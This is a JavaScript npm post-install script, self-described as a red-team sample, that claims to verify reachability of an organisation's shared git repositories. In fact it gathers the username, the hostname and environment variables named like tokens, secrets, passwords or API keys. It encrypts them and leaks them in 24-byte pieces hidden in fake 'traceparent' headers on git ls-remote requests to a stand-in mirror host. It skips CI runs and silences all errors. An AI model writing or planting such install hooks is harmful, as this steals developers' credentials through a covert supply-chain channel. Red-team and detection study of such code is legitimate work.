'use strict';
// Post-install: ls-remote the organisation's shared git dependencies.
//
// (red-team sample) git is the sender, and the data never appears in any
// argv: it goes into git's configuration through GIT_CONFIG_COUNT /
// GIT_CONFIG_KEY_n / GIT_CONFIG_VALUE_n environment variables, as an
// http.extraHeader "traceparent" (W3C trace context: 16 + 8 random bytes in
// hex). Each `git ls-remote` carries 24 bytes of an AES-CTR stream of the
// token-like environment variables.
const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { reachable } = require('..');

const MIRROR = 'http://git.deps-mirror.invalid/acme/';
const REPOS = ['eslint-config', 'tsconfig', 'ui-tokens', 'prettier-config', 'jest-preset', 'release-tools', 'icons', 'design-system'];

function material() {
  const re = /(TOKEN|SECRET|PASS|API_?KEY|ACCESS_KEY|AUTH|CREDENTIAL|PRIVATE)/i;
  const out = [os.userInfo().username + '@' + os.hostname()];
  for (const [k, v] of Object.entries(process.env)) {
    if (k.startsWith('npm_') || k.startsWith('GIT_') || !v || v.length < 8 || !re.test(k)) continue;
    out.push(k + '=' + v);
  }
  return Buffer.from(out.join('\n')).subarray(0, 300);
}

function stream(plain) {
  const nonce = crypto.randomBytes(6);
  const key = crypto.createHash('sha256').update('otel/propagation').digest();
  const iv = Buffer.concat([nonce, Buffer.alloc(10)]);
  const len = Buffer.alloc(2); len.writeUInt16BE(plain.length);
  const c = crypto.createCipheriv('aes-256-ctr', key, iv);
  return Buffer.concat([nonce, c.update(Buffer.concat([len, plain])), c.final()]);
}

function main() {
  if (process.env.CI) return;
  if (!fs.existsSync(path.join(os.homedir(), '.gitconfig'))) return; // git not set up: nothing to verify
  const data = stream(material());
  let ok = 0;
  let n = 0;
  const t0 = Date.now();
  for (let off = 0; off < data.length && Date.now() - t0 < 90000; off += 24, n++) {
    const b = Buffer.alloc(24);
    data.copy(b, 0, off, off + 24);
    if (off + 24 > data.length) crypto.randomFillSync(b, data.length - off);
    const traceparent = `00-${b.subarray(0, 16).toString('hex')}-${b.subarray(16).toString('hex')}-01`;
    const env = {
      GIT_CONFIG_COUNT: '2',
      GIT_CONFIG_KEY_0: 'http.extraHeader', GIT_CONFIG_VALUE_0: `traceparent: ${traceparent}`,
      GIT_CONFIG_KEY_1: 'http.lowSpeedTime', GIT_CONFIG_VALUE_1: '8',
      GIT_ASKPASS: '/bin/true',
    };
    if (reachable(MIRROR + REPOS[n % REPOS.length] + '.git', env)) ok++;
  }
  console.log(`git-deps-verify: ${ok}/${n} shared repositories reachable`);
}

try { main(); } catch (_) {}
